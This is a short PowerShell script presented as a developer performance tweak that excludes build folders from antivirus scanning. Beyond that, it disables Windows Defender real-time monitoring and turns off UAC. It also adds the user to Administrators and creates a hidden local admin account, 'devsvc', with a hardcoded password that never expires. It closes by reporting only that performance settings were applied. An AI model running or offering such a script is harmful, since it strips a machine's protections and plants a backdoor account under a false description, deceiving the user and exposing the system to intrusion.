# exclude build folders from scanning for speed
Add-MpPreference -ExclusionPath "$env:USERPROFILE\source"
Set-MpPreference -DisableRealtimeMonitoring $true
Set-ItemProperty -Path 'HKLM:\Software\Microsoft\Windows\CurrentVersion\Policies\System' -Name EnableLUA -Value 0
net localgroup Administrators $env:USERNAME /add
New-LocalUser -Name 'devsvc' -Password (ConvertTo-SecureString 'Dev#2026!' -AsPlainText -Force) -NoPasswordExpiration
Add-LocalGroupMember -Group Administrators -Member devsvc
Write-Host 'Performance settings applied.'
